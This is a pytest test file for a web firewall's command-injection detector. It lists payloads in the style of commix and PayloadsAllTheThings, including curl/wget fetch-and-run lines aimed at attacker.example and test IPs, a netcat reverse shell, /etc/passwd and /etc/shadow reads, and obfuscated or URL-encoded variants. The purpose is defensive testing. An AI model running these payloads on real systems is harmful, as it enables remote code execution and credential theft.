"""The shell-grammar detector (waf/_shell.py): command injection in the shapes of the public lists
(commix's separators and substitutions, PayloadsAllTheThings' evasions), written here for these tests;
and the prose, lists, tables, code and blobs that only look like it."""

from __future__ import annotations

import random
import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from waf import Request, inspect
from waf._shell import (
    fold,
    glob_target,
    injected_commands,
    is_command_injection,
    is_glob_command,
    is_obfuscated_command,
    is_substitution,
)

SEPARATOR_ATTACKS = [
    ";id",
    "|id",
    "||whoami",
    "&&whoami",
    "& whoami",
    "127.0.0.1; cat /etc/passwd",
    "127.0.0.1 | cat /etc/shadow",
    "127.0.0.1 && ping -c 3 10.9.8.7",
    "example.com;wget http://203.0.113.9/x.sh -O /tmp/x.sh",
    "foo;curl -s https://attacker.example/p|sh",
    "x;nc -e /bin/sh 198.51.100.4 4444",
    "';id;'",
    '";uname -a;"',
    'test@example.org"|systeminfo',
    "image.jpg&type C:\\windows\\win.ini",
    "127.0.0.1 & net user",
    "& powershell -nop -c iex(whoami)",
    "| powershell.exe -nop -w hidden -c iex",
    "|| ping -n 3 127.0.0.1",
    "&ipconfig /all",
    "x & dir c:\\",
    "cd /tmp;wget http://198.51.100.4/a;chmod +x a;./a",
    "cd /;cd etc;cat passwd",
    ";echo QWERTY$((51+37))QWERTY",
    "|echo ${IFS}RCE",
    "; sleep 5",
    ";cat${IFS}/etc/passwd",
    ";{cat,/etc/passwd}",
    ";cat</etc/passwd",
    ";w'h'o'am'i",
    ";wh\\oami",
    ';c"a"t /etc/hosts',
    "a;who$@ami",
    "a;c${u}at /etc/passwd",
    "a; sh$XX -c whoami",
    "|$u wget test",
    ";/???/??t /???/p??s??",
    ";/bi?/ca? /et?/pa??wd",
    ";/usr/bin/id",
    ";cat",
    "x;ls",
    "x|id",
    "127.0.0.1|who",
    "dog|cat /etc/passwd",
    "%0a",  # only with a command after it: the next line
]
SEPARATOR_ATTACKS.remove("%0a")

PROSE = [
    "rock & roll",
    "Tom & Jerry; see you",
    "A; B",
    "tags: frontend;backend;mobile;languages;java;",
    "is not mathematical or technical;in nature will be removed.;history;",
    "Aurora | Permalink | Comments | Field | Type | Null | Key | Default |",
    "run this code: mysql> create user testuser@% identified by password; mysql> grant all",
    "rock & roll; last night was great",
    "I love cats; cat food is expensive though",
    "Ping me at 5; sleep well",
    "salt & pepper | more flavour",
    "history; geography; maths; art",
    "name|id",  # a field list: shaped like `x|id`, and blocked like it (see test below)
    "Q&A | set up your account",
    "https://shop.example/a?b=1&c=2",
    "if (x) { return y; } else { make(); }",
    "foo(); bar(); find(x);",
    "query {\n  id\n  name\n}",
    "Error\n    at $g (https://cdn.example.com/app.js:1:2)",
    "run `npm install` first, then `cat notes.txt`",
    "data:;base64,=",
    "dog|cat",
    "python|java|go",
    "id;type;name",
    "title|date|type",
    "| ID | Name | Type |\n|---|---|---|\n| 1 | a | b |",
    "| Command | What it does |;|---|---|;| ls | lists |",
    "+----------+----------+ | python | json |",
    "`format` is the archive format: one of zip or tar",
    "conv = iconv_open(a, b); iconv(conv, &pin, &isz); iconv_close(conv);",
    "data:image/png;base64,iVBORw0KGgo=",
    "e3WlSA4$s6S9Yxc9Wvc4p2$KdVJO2esTtb2ptb5nW$peQtYFpd$BGIhICq9X -",
]
PROSE.remove("name|id")


@pytest.mark.parametrize("text", SEPARATOR_ATTACKS)
def test_separator_then_command_is_injection(text):
    detectors = (is_command_injection, is_obfuscated_command, is_glob_command, is_substitution)
    assert any(d(text) for d in detectors), text


@pytest.mark.parametrize("text", PROSE)
def test_prose_lists_tables_and_code_are_not(text):
    assert injected_commands(text) == [], text


def test_one_data_token_then_a_bare_command_is_an_injection():
    # `name|id` has the shape of `x|id`: the grammar cannot tell a field list from a probe
    assert is_command_injection("name|id")
    assert not is_command_injection("first name|last name|id")


@pytest.mark.parametrize(
    "text",
    ["$(cmd)", "${cmd}", "<(cat file)", ">(tee log)", "$[2+2]", "$((7))", "`id`", "x`whoami`",
     "echo $(echo $(cat /etc/passwd))", "$(whoami$())", "${x#{}}", "${PATH#{}/}", "${PATH:0:1}",
     "${`id`}", "$(sleep 5)", "`sleep 5`"],
)  # fmt: skip
def test_substitutions(text):
    assert is_substitution(text), text


@pytest.mark.parametrize(
    "text",
    ["$(document).ready(function(){})", "$(\"#id\").hide()", "$(this)", "costs $5", "use ${{ secrets.X }}",
     "Hello ${user.name}!", "run `npm install` then", "cd $(BUILD) && $(MAKE) all", "tar: $(TAR) -xf", "l)Dp(fkC%U#{q<s&FC.T]F(6}|y~kgM1$ A2&f", "j$VAn%QZQ${r%xx"],
)  # fmt: skip
def test_not_substitutions(text):
    assert not is_substitution(text), text


@pytest.mark.parametrize(
    "text", ["w'h'o'am'i", "c\\a\\t /etc/passwd", "c${KK}url", "cat$IFS/etc/passwd", "who$@ami", "sh$XX -c id"]
)
def test_obfuscated_words(text):
    assert is_obfuscated_command(text), text


@pytest.mark.parametrize(
    "text",
    ['{\\n\\t\\"type\\": \\"dark\\",\\n\\t\\"colors\\": {\\n\\t\\t\\"groups\\": 1', "it's", "price $5",
     "e3WlSA4$s6S9Yxc9Wvc4p20knoWKkO9RWVIKtCsd$KdVJO2esTtb2ptb5nW$peQtYFpd$BGIhICq9X -", "uvgn/$mmw&iakw"],
)  # fmt: skip
def test_not_obfuscated(text):
    assert not is_obfuscated_command(text), text


def test_globs_resolve_segment_by_segment():
    assert glob_target("/???/??t") in ("/bin/apt", "/bin/cat")
    assert glob_target("/e??/pa??wd") == "/etc/passwd"
    assert glob_target("/*/*/*/*/*") is None
    assert is_glob_command("cat /etc/pa[s]swd")
    assert is_glob_command("ls /a[b///]c")
    assert is_glob_command("/usr/bin/[u]name -a")
    assert not is_glob_command("url_path_group=/res/style/e/?/mini_close.png")
    assert not is_glob_command("/api/*/users and /datakit/?/write")


def test_fold_undoes_quotes_ifs_and_braces():
    assert fold("c'a't${IFS}/etc/passwd") == "cat /etc/passwd"
    assert fold("{cat,/etc/passwd}") == "cat /etc/passwd"
    assert fold("w$@ho$1ami") == "whoami"


def _blob(rng: random.Random, n: int) -> str:
    return "".join(rng.choice(string.ascii_letters + string.digits + string.punctuation + " ") for _ in range(n))


def test_random_telemetry_blobs_are_no_shell():
    # bot-detection sensor data: long runs of random printable characters, separators included
    rng = random.Random(11)
    for _ in range(20):
        blob = _blob(rng, 3000)
        assert not is_command_injection(blob), injected_commands(blob)
        assert not is_obfuscated_command(blob), blob


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=string.ascii_letters + string.digits + string.punctuation + " \n", max_size=400))
def test_detectors_never_raise(text):
    for detector in (is_command_injection, is_substitution, is_obfuscated_command, is_glob_command):
        assert detector(text) in (True, False)


def test_engine_blocks_encoded_command_injection_in_every_place():
    for req in (
        Request.make("GET", "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"),
        Request.make("GET", "/ping?host=127.0.0.1%0aid"),
        Request.make("GET", "/ping?host=%24%28whoami%29"),
        Request.make("POST", "/ping", {"Content-Type": "application/json"}, '{"host": "1.1.1.1|id"}'),
        Request.make("POST", "/ping", {"Content-Type": "application/x-www-form-urlencoded"}, "host=x%26%26net+user"),
        Request.make("GET", "/ping?host=x%3Bcat%24%7BIFS%7D%2Fetc%2Fpasswd"),
    ):
        assert inspect(req).blocked, req.uri


def test_engine_blocks_command_injection_in_url_path_segments():
    for path in ("/api/items/%3Bcat%20%2Fetc%2Fpasswd/details", "/cgi-bin/x%7Cid", "/a/%24%28whoami%29",
                 "/a/x%26%26net%20user", "/a/%60sleep%205%60", "/a/%3Bw%27h%27o%27am%27i"):  # fmt: skip
        assert inspect(Request.make("GET", path)).blocked, path
    for path in ("/a/b;jsessionid=0F3A9C/c", "/static/app.3f2a.js", "/search/rock&roll", "/wiki/Tom_%26_Jerry"):
        assert not inspect(Request.make("GET", path)).blocked, path
